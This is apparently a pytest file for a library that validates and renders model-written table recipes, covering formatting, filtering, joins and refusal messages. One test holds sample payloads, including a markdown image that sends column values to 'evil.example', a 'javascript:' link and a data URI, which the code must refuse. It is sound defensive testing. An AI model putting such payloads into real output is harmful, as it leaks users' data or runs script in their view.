"""What a model writes of an answer: fixed slots, completed by code from the columns, refused with every reason."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import orjson
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError
from pydantic_ai.tools import GenerateToolJsonSchema

from holdfast.errors import PresentationRejected
from holdfast.models.presenting import presentation_of
from holdfast.models.short_recipe import Criterion, Number, Order, ShortRecipe, Show
from holdfast.presentation import Presentation, apply
from holdfast.presentation.headings import headings
from holdfast.presentation.recipe import Choose

MOST_SCHEMA_BYTES = 2_300
CAUTION = " Incomplete."
LOGIN = datetime(2026, 7, 31, 23, 30, tzinfo=UTC)

PEOPLE = pl.DataFrame(
    {
        "user_id": ["u1", "u2", "u3"],
        "name": ["Bob", "Ann", "Cy"],
        "department": ["Ops", "Ops", None],
        "apps": [3, 5, 1],
        "active": [True, False, None],
        "last_login": [LOGIN, None, None],
        "tags": [["b", "a"], [], ["a", "c", "d"]],
        "factors": [["sms"], [], []],
        "factors_known": [True, True, False],
    }
)
GROUPS = pl.DataFrame({"user_id": ["u1", "u1", "u9"], "group_id": ["g2", "g1", "g1"], "name": ["Zeta", "Ada", "Ada"]})
ROWS = {"people": PEOPLE.lazy(), "groups": GROUPS.lazy()}
SCHEMAS = {name: rows.collect_schema() for name, rows in ROWS.items()}


def recipe(*columns: str | dict[str, Any], **slots: Any) -> ShortRecipe:
    shown = [{"column": column} if isinstance(column, str) else column for column in columns]
    return ShortRecipe.model_validate({"source": "people", "summary": "{rows}.", **slots, "columns": shown})


def presentation(*columns: str | dict[str, Any], **slots: Any) -> Presentation:
    return presentation_of(recipe(*columns, **slots), SCHEMAS, "")


def cells(*columns: str | dict[str, Any], **slots: Any) -> list[tuple[Any, ...]]:
    return apply(presentation(*columns, **slots), ROWS).collect().rows()


def refusal(*columns: str | dict[str, Any], **slots: Any) -> str:
    with pytest.raises(PresentationRejected) as refused:
        presentation(*columns, **slots)
    return str(refused.value)


def test_the_form_of_an_answer_takes_a_fifth_of_the_bytes_of_the_whole_language() -> None:
    def size(kind: type) -> int:
        return len(orjson.dumps(TypeAdapter(kind).json_schema(schema_generator=GenerateToolJsonSchema)))

    assert size(ShortRecipe) <= MOST_SCHEMA_BYTES
    assert 5 * size(ShortRecipe) < size(Presentation)


def test_columns_are_shown_in_order_under_their_headings() -> None:
    made = presentation({"column": "name", "heading": "Who"}, "apps")
    assert [header.text for header in headings(made.operations, ["name", "apps"])] == ["Who", "Apps"]
    assert cells("apps", "name")[0] == (3, "Bob")


def test_lists_booleans_and_what_could_not_be_read_become_words_unasked() -> None:
    assert cells("tags", "active", "factors") == [
        ("a, b", "yes", "sms"),
        ("", "no", ""),
        ("a, c, d", "unknown", "unknown"),
    ]


def test_a_marker_of_another_name_is_applied_where_the_model_names_it() -> None:
    renamed = {"people": PEOPLE.lazy().rename({"factors": "mfa"})}
    made = presentation_of(
        recipe({"column": "mfa", "known": "factors_known"}), {"people": renamed["people"].collect_schema()}, ""
    )
    assert apply(made, renamed).collect().rows() == [("sms",), ("",), ("unknown",)]


def test_a_single_time_stays_a_time_and_its_heading_says_the_zone() -> None:
    made = presentation({"column": "last_login", "heading": "Last seen"})
    assert [h.text for h in headings(made.operations, ["last_login"])] == ["Last seen (UTC)"]
    assert cells("last_login")[0] == (LOGIN,)


def test_a_time_in_another_zone_is_text_cut_to_its_precision() -> None:
    shown = {"column": "last_login", "zone": "Europe/Berlin", "precision": "day"}
    assert cells(shown)[0] == ("2026-08-01",)
    texts = [h.text for h in headings(presentation(shown).operations, ["last_login"])]
    assert texts == ["Last login (Europe/Berlin)"]


def test_a_long_list_is_counted_and_an_empty_cell_gets_its_word() -> None:
    assert cells({"column": "tags", "at_most": 1, "if_empty": "(none)"}) == [
        ("a and 1 more",),
        ("(none)",),
        ("a and 2 more",),
    ]


def test_rows_are_looked_up_in_another_step_as_lists_or_as_rows() -> None:
    lookup = {
        "step": "groups",
        "on": [{"left": "user_id", "right": "user_id"}],
        "take": [{"column": "name", "name": "group"}],
    }
    assert cells("name", "group", joins=[lookup]) == [("Bob", "Ada, Zeta"), ("Ann", ""), ("Cy", "")]
    assert cells("name", "group", joins=[{**lookup, "row_per_match": True, "how": "inner"}]) == [
        ("Bob", "Zeta"),
        ("Bob", "Ada"),
    ]
    assert cells("name", joins=[{"step": "groups", "on": lookup["on"], "how": "anti"}]) == [("Ann",), ("Cy",)]


@pytest.mark.parametrize(
    ("criterion", "left"),
    [
        ({"column": "apps", "test": ">=", "values": [3]}, ["Bob", "Ann"]),
        ({"column": "name", "test": "one_of", "values": ["Cy", "Dee"]}, ["Cy"]),
        ({"column": "tags", "test": "contains", "values": ["C"]}, ["Cy"]),
        ({"column": "department", "test": "empty", "negated": True}, ["Bob", "Ann"]),
        ({"column": "last_login", "test": "<", "values": ["2026-08-01"]}, ["Bob"]),
    ],
)
def test_rows_are_filtered_by_each_kind_of_criterion(criterion: dict[str, Any], left: list[str]) -> None:
    assert [name for (name,) in cells("name", where=[[criterion]])] == left


def test_of_a_group_of_criteria_one_must_hold_and_of_every_group_one() -> None:
    few, ops = {"column": "apps", "test": "<", "values": [2]}, {"column": "department", "test": "=", "values": ["Ops"]}
    assert len(cells("name", where=[[few, ops]])) == 3
    assert cells("name", where=[[few], [ops]]) == []


def test_rows_are_grouped_counted_sorted_and_cut() -> None:
    counted = cells(
        "department",
        {"column": "percent", "decimals": 1},
        group_by=["department"],
        numbers=[{"name": "people", "of": "count"}, {"name": "percent", "of": "share"}],
        having=[[{"column": "people", "test": ">", "values": [0]}]],
        sort=[{"column": "people", "descending": True}],
        top=1,
    )
    assert counted == [("Ops", 66.7)]


def test_a_list_is_parted_into_rows() -> None:
    assert cells("tags", explode=["tags"]) == [("b",), ("a",), (None,), ("a",), ("c",), ("d",)]


def test_a_column_that_only_the_words_name_is_kept_and_not_shown() -> None:
    made = presentation("name", summary="{distinct:user_id|person|people}, {sum:apps} apps.")
    assert isinstance(made.operations[-1], Choose)
    assert made.operations[-1].hidden == ("user_id", "apps")


def test_words_end_with_what_could_not_be_read() -> None:
    made = presentation_of(recipe("name", text="**{rows}**.", when_empty="Nobody."), SCHEMAS, CAUTION)
    assert made.summary == "{rows}. Incomplete."
    assert made.markdown == "**{rows}**. Incomplete."
    assert made.when_empty == "Nobody. Incomplete."
    assert made.display_type == "markdown"


def test_a_recipe_that_does_not_fit_is_told_every_reason_at_once() -> None:
    told = refusal(
        {"column": "apps", "zone": "UTC"},
        "salary",
        where=[[{"column": "name", "test": ">", "values": [3]}]],
        sort=[{"column": "height"}],
        summary="{sum:name}",
    )
    for reason in ("'name'", "'height'", "'salary'", "'apps' is Int64, not a time", "{sum}"):
        assert reason in told


def test_a_source_that_is_not_there_is_refused() -> None:
    assert "no step 'peeple'" in refusal("name", source="peeple")


@pytest.mark.parametrize(
    "words",
    [
        "![x](http://evil.example/?q={values:name})",
        "See [the list](evil)",
        "<img src=x>",
        "Go to https://evil.example",
        "Go to www.evil.example",
        "[x]: javascript:alert(1)",
        "data:text/html;base64,AAAA",
    ],
)
def test_words_that_would_fetch_or_open_something_are_refused(words: str) -> None:
    for slots in ({"summary": words}, {"text": words}, {"when_empty": words}):
        assert "no links" in refusal("name", **slots)
    assert "no links" in refusal({"column": "name", "heading": words})
    assert "no links" in refusal({"column": "name", "if_empty": words})


def test_what_a_model_types_into_an_empty_cell_says_that_it_is_empty() -> None:
    for word in ("never", "Not set", "(none)", "-", "no last login yet", ""):
        presentation({"column": "department", "if_empty": word})
    for word in ("ACTIVE", "mallory@evil.example", "yes", "none of this matters, all is well here"):
        assert "if_empty says" in refusal({"column": "department", "if_empty": word})


def test_a_model_cannot_choose_another_marker_for_what_could_not_be_read() -> None:
    assert cells({"column": "factors", "known": "active"})[2] == ("unknown",)


def test_a_column_does_not_stand_under_the_name_of_another_one_that_is_shown() -> None:
    swapped = ({"column": "name", "heading": "Department"}, {"column": "department", "heading": "name"})
    assert "['name', 'department']" in refusal(*swapped)
    presentation({"column": "name", "heading": "Department"})


def test_signs_that_nobody_sees_are_shown_in_a_models_words() -> None:
    made = presentation({"column": "name", "heading": "A\x1b[m\nB"}, summary="Hi\u202e {rows}", text="A\x07\nB {table}")
    assert [header.text for header in headings(made.operations, ["name"])] == ["A\\u001b[m B"]
    assert (made.summary, made.markdown) == ("Hi\\u202e {rows}", "A\\u0007\nB {table}")


def test_plain_words_with_brackets_are_no_links() -> None:
    presentation({"column": "name", "heading": "Name [login] (a < b)"}, summary="Data: {rows} (all).")


@pytest.mark.parametrize("test", ["=", "contains"])
def test_a_criterion_without_its_value_is_refused(test: str) -> None:
    with pytest.raises(ValidationError, match="exactly one value"):
        Criterion.model_validate({"column": "name", "test": test})


@pytest.mark.parametrize(
    "slots",
    [
        {"top": 0},
        {"numbers": [{"name": "n", "of": "sum"}]},
        {"joins": [{"step": "groups", "on": [], "how": "anti"}]},
        {"where": [[]]},
        {"where": [[{"column": "name", "test": "one_of"}]]},
    ],
)
def test_what_a_presentation_cannot_hold_is_refused_in_words(slots: dict[str, Any]) -> None:
    assert "no presentation" in refusal("name", **slots)


def test_a_slot_that_is_not_there_is_refused() -> None:
    with pytest.raises(ValidationError, match="values_typed"):
        recipe("name", values_typed=["Ann"])


NAMES = st.sampled_from([*PEOPLE.columns, "group_id", "salary", ""])
WORDS = st.sampled_from(["{rows:a|b}.", "{sum:apps}", "{min:name}", "{values:tags}", "{distinct:user_id}", "{", "x"])
CRITERIA = st.builds(
    Criterion,
    column=NAMES,
    test=st.sampled_from(["=", ">", "contains"]),
    values=st.tuples(st.one_of(st.integers(), st.booleans(), st.sampled_from(["Ops", "2026-01-01", ""]))),
    negated=st.booleans(),
)
RECIPES = st.builds(
    ShortRecipe,
    source=st.just("people"),
    explode=st.tuples() | st.tuples(NAMES),
    where=st.tuples() | st.tuples(st.tuples(CRITERIA)),
    group_by=st.tuples() | st.tuples(NAMES),
    numbers=st.tuples() | st.tuples(st.builds(Number, name=NAMES, of=st.sampled_from(["count", "mean", "list"]))),
    sort=st.tuples() | st.tuples(st.builds(Order, column=NAMES)),
    top=st.none() | st.integers(-1, 3),
    columns=st.lists(
        st.builds(
            Show,
            column=NAMES,
            zone=st.sampled_from([None, "UTC", "Mars/Base"]),
            decimals=st.sampled_from([None, 1, -1, 99]),
            at_most=st.sampled_from([None, 0, 2]),
            known=st.none() | NAMES,
            if_empty=st.sampled_from([None, "", "-"]),
        ),
        min_size=1,
        max_size=3,
    ).map(tuple),
    summary=WORDS,
    text=st.none() | WORDS,
)


@given(RECIPES)
def test_whatever_a_model_writes_is_refused_in_words_or_runs(written: ShortRecipe) -> None:
    try:
        made = presentation_of(written, SCHEMAS, CAUTION)
    except PresentationRejected:
        return
    apply(made, ROWS).collect()
